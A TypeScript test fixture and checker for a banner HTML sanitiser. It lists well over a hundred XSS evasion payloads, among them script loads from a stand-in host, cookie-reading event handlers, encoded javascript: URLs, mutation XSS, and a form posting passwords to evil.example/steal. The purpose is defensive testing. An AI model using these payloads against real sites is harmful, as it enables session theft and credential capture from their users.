import { contentLinkUrl } from '@puribox/contract/content-links'
import { sameOriginPath } from '@puribox/contract/safe-redirect'
import { type DefaultTreeAdapterMap, parseFragment } from 'parse5'

/**
 * Hostile banner HTML: the vectors of the OWASP XSS Filter Evasion Cheat Sheet, with the families it
 * names written out (entity-encoded and split schemes, event handlers, style injection, foreign
 * content, documents inside documents, comments and CDATA, broken markup) and a few newer ones
 * (mutation XSS, the `xmp` passthrough of sanitize-html before 2.17.4). Each is `[name, html]`.
 * Whatever comes out of the sanitiser for any of them must run nothing and style nothing.
 */
export const HOSTILE_BANNER_HTML: ReadonlyArray<readonly [string, string]> = [
  // Plain script
  ['script tag', '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>'],
  [
    'script polyglot',
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  ],
  ['script with attribute quirks', '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>'],
  ['script after slash', '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script tag', '<SCRIPT SRC=https://xss.example/xss.js?< B >'],
  ['half-open script', '<SCRIPT SRC=//xss.example/.j>'],
  ['double open angle', '<iframe src=https://xss.example/scriptlet.html <'],
  ['script in text', '<p>hello</p><script>document.cookie</script>'],
  ['escaped script closing', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['script nested in a kept tag', '<div><p><span><script>alert(1)</script></span></p></div>'],
  ['script split by a kept tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script as a comment split', '<scr<!-- -->ipt>alert(1)</script>'],
  // javascript: in links and images, in every disguise
  ['image javascript', '<IMG SRC="javascript:alert(\'XSS\');">'],
  ['no quotes, no semicolon', "<IMG SRC=javascript:alert('XSS')>"],
  ['mixed case', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['html entities', '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
  ['grave accent', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed A tag', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['malformed A tag, no quotes', '<a onmouseover=alert(document.cookie)>xxs link</a>'],
  ['malformed IMG', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['default src to get past filters', '<IMG SRC=# onmouseover="alert(\'xxs\')">'],
  ['empty src', '<IMG SRC= onmouseover="alert(\'xxs\')">'],
  ['no src', '<IMG onmouseover="alert(\'xxs\')">'],
  ['on error alert', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['img onerror, short', '<img src=x onerror=alert(1)>'],
  [
    'img onerror, encoded',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  ],
  [
    'decimal entities',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  ],
  [
    'decimal entities without semicolons',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  ],
  [
    'hex entities without semicolons',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  ],
  ['embedded tab', '<IMG SRC="jav\tascript:alert(\'XSS\');">'],
  ['embedded encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
  ['embedded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
  ['embedded carriage return', '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">'],
  ['null breaks up javascript', '<IMG SRC=java\u0000script:alert("XSS")>'],
  ['spaces and meta chars before javascript', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">'],
  ['link with encoded tab', '<a href="jav&#x09;ascript:alert(1)">tap</a>'],
  ['link with raw newline', '<a href="java\nscript:alert(1)">tap</a>'],
  ['link mixed case', '<a href="JaVaScRiPt:alert(1)">tap</a>'],
  ['link with &colon;', '<a href="javascript&colon;alert(1)">tap</a>'],
  ['link with leading spaces', '<a href="   javascript:alert(1)">tap</a>'],
  ['link with leading control', '<a href="\u0001javascript:alert(1)">tap</a>'],
  ['link vbscript', '<a href="vbscript:msgbox(1)">tap</a>'],
  ['link livescript', '<a href="livescript:alert(1)">tap</a>'],
  ['link data html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">tap</a>'],
  ['link data, mixed case', '<a href="DaTa:text/html,<script>alert(1)</script>">tap</a>'],
  ['image data svg', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['link protocol-relative', '<a href="//evil.example/">tap</a>'],
  ['link backslash host', '<a href="/\\evil.example/">tap</a>'],
  ['link http', '<a href="http://evil.example/">tap</a>'],
  ['link with credentials', '<a href="https://user:pw@evil.example/">tap</a>'],
  ['link with URL-encoded javascript', '<a href="javascript%3Aalert(1)">tap</a>'],
  ['link with double-encoded entity', '<a href="&amp;#106;avascript:alert(1)">tap</a>'],
  [
    'non-alpha-non-digit',
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT><BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  ],
  // Handlers on kept tags
  ['handler on p', '<p onclick="alert(1)">tap</p>'],
  ['handler on div, upper case', '<DIV ONMOUSEOVER="alert(1)">x</DIV>'],
  ['handler after slash', '<p/onclick=alert(1)>x</p>'],
  [
    'handler on picture source',
    '<picture><source srcset="/a.webp" onerror="alert(1)"><img src="/a.png" onload="alert(1)"></picture>',
  ],
  ['handler split with newline', '<img src="/a.png"\nonerror=alert(1)>'],
  ['body onload', "<BODY ONLOAD=alert('XSS')>"],
  ['input image', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'],
  ['body background', '<BODY BACKGROUND="javascript:alert(\'XSS\')">'],
  ['img dynsrc', '<IMG DYNSRC="javascript:alert(\'XSS\')">'],
  ['img lowsrc', '<IMG LOWSRC="javascript:alert(\'XSS\')">'],
  ['bgsound', '<BGSOUND SRC="javascript:alert(\'XSS\');">'],
  ['video poster', '<video poster=javascript:alert(1)//></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['button formaction', '<form><button formaction=javascript:alert(1)>tap</button></form>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  // Style injection
  ['style tag', '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>'],
  ['style tag with import', "<STYLE>@import'https://xss.example/xss.css';</STYLE>"],
  ['style attribute expression', '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>'],
  ['style attribute url', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>'],
  ['style attribute with comment', '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">'],
  [
    'style attribute broken up',
    '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  ],
  [
    'style attribute that covers the page',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">fake login</div>',
  ],
  ['anonymous html with style', '<XSS STYLE="behavior: url(xss.htc);">'],
  ['link stylesheet', '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">'],
  ['style in svg', '<svg><style>{}*{background:url(javascript:alert(1))}</style></svg>'],
  ['class of the page (not banner-)', '<div class="site-header frame">x</div>'],
  // Foreign content and documents inside documents
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg animate', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['svg a xlink', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['svg set href', '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'],
  [
    'math',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['math href', '<math href="javascript:javascript:alert(1)">CLICKME</math>'],
  [
    'math maction',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">CLICKME</maction></math>',
  ],
  ['iframe', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'],
  ['iframe event based', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['frameset', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>'],
  ['object', '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>'],
  [
    'embed',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  ],
  ['form action', '<form action="https://evil.example/steal" method="post"><input name="password"></form>'],
  ['form with javascript action', '<FORM ACTION="javascript:alert(1)"><INPUT TYPE=submit></FORM>'],
  ['base href', '<BASE HREF="javascript:alert(\'XSS\');//">'],
  ['base to another site', '<base href="https://evil.example/"><a href="/sp/top/menu">top</a>'],
  ['meta refresh', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'],
  [
    'meta refresh data',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  ],
  [
    'meta refresh with url parameter',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(\'XSS\');">',
  ],
  ['meta set-cookie', '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">'],
  ['table background', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">'],
  ['td background', '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['textarea breakout', '<textarea></textarea><img src=x onerror=alert(1)>'],
  [
    'noscript breakout (mutation)',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ],
  ['xmp passthrough (CVE-2026-44990)', '<xmp><script>alert(1)</script></xmp>'],
  ['noembed breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['title breakout', '<title><img src=x onerror=alert(1)></title>'],
  ['select breakout', '<select><template><style><img src=x onerror=alert(1)></style></template></select>'],
  ['option with entities', '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>'],
  // Comments, CDATA and conditional comments
  ['comment hiding a tag', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['comment in the middle of script', '<scr<!--x-->ipt>alert(1)</scr<!--x-->ipt>'],
  ['downlevel-hidden', "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['CDATA in svg', '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>'],
  ['bogus comment', '<? echo("<SCR)"; echo("IPT>alert(\'XSS\')</SCRIPT>"); ?>'],
  ['XML data island', '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'],
  ['ending comment without start', '--><img src=x onerror=alert(1)>'],
  // Broken, nested and unclosed markup
  ['unclosed img', '<IMG SRC="javascript:alert(\'XSS\')"'],
  ['unclosed attribute', '<a href="/sp/top/menu onclick=alert(1)>tap'],
  ['unclosed tag then handler', '<p <img src=x onerror=alert(1)>'],
  ['nested quotes', '<a href="/x" title=\'"><img src=x onerror=alert(1)>\'>tap</a>'],
  ['attribute breakout with backtick', '<a title=``onclick=alert(1)>x</a>'],
  ['double tags', '<a href="/x"<a href="javascript:alert(1)">tap</a>'],
  ['deep nesting', `${'<div>'.repeat(200)}<img src=x onerror=alert(1)>${'</div>'.repeat(200)}`],
  ['mismatched nesting', '<p><strong><em>x</p></strong><img src=x onerror=alert(1)></em>'],
  ['null in tag name', '<scr\u0000ipt>alert(1)</script>'],
  ['tag with newline in name', '<img\nsrc=x\nonerror=alert(1)>'],
  ['slash before attribute', '<img/src="x"/onerror="alert(1)">'],
  ['utf-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['full-width tags (must be text)', '＜script＞alert(1)＜/script＞'],
  [
    'mutation via namespace confusion',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['svg in picture', '<picture><svg onload=alert(1)><source srcset="/a.webp"></picture>'],
  ['srcset with javascript', '<img src="/a.png" srcset="javascript:alert(1) 1x">'],
  [
    'srcset with data',
    '<picture><source srcset="data:image/png;base64,AAAA 1x"><img src="/a.png"></picture>',
  ],
  ['srcset with off-site second candidate', '<img src="/a.png" srcset="/a.png 1x, //evil.example/b.png 2x">'],
  ['link target and rel of the author', '<a href="https://evil.example" target="_self" rel="opener">tap</a>'],
  ['id clobbering', '<img src="/a.png" id="__proto__"><a id="location" href="/x">x</a>'],
  ['name clobbering', '<img src="/a.png" name="getElementById">'],
  ['huge attribute', `<a href="/x" title="${'"'.repeat(5)}${'x'.repeat(5000)}">x</a>`],
]

const KEPT_ATTRIBUTES: Record<string, readonly string[]> = {
  a: ['href', 'title', 'target', 'rel', 'class'],
  img: ['src', 'srcset', 'sizes', 'alt', 'width', 'height', 'loading', 'class'],
  source: ['srcset', 'sizes', 'media', 'type', 'width', 'height', 'class'],
}
const PLAIN_TAGS = ['picture', 'p', 'br', 'div', 'span', 'strong', 'em', 'b', 'small']

type Node = DefaultTreeAdapterMap['node']

/**
 * What a browser would find in `html` that a banner may not have. The HTML is parsed the way a
 * browser parses it (parse5 follows the HTML standard's parser, foreign content and all) and every
 * node is checked against the allow-list: an element, an attribute or a URL not on it, a comment.
 */
export function bannerHtmlDangers(html: string): string[] {
  const found: string[] = []
  const visit = (node: Node) => {
    if (node.nodeName === '#comment') found.push('a comment')
    if ('tagName' in node) {
      const tag = node.tagName
      if (node.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`foreign <${tag}>`)
      const allowed = KEPT_ATTRIBUTES[tag] ?? (PLAIN_TAGS.includes(tag) ? ['class'] : null)
      if (allowed === null) found.push(`<${tag}>`)
      for (const { name, value } of node.attrs) {
        if (!allowed?.includes(name)) found.push(`<${tag} ${name}>`)
        if (name === 'class' && value.split(/\s+/).some((c) => c !== '' && !c.startsWith('banner-')))
          found.push(`class ${value}`)
        if (name === 'href' && contentLinkUrl(value) !== value) found.push(`href ${value}`)
        if (name === 'src' && sameOriginPath(value) !== value) found.push(`src ${value}`)
        if (
          name === 'srcset' &&
          value.split(',').some((c) => sameOriginPath(c.trim().split(' ')[0] ?? '') === null)
        )
          found.push(`srcset ${value}`)
        if (name === 'target' && value !== '_blank') found.push(`target ${value}`)
        if (name === 'rel' && value !== 'noopener noreferrer') found.push(`rel ${value}`)
      }
      if (
        tag === 'a' &&
        node.attrs.some((a) => a.name === 'target') !== node.attrs.some((a) => a.name === 'rel')
      )
        found.push('a new tab without noopener')
    }
    if ('childNodes' in node) for (const child of node.childNodes) visit(child)
    if ('content' in node) visit(node.content)
  }
  visit(parseFragment(html))
  return found
}
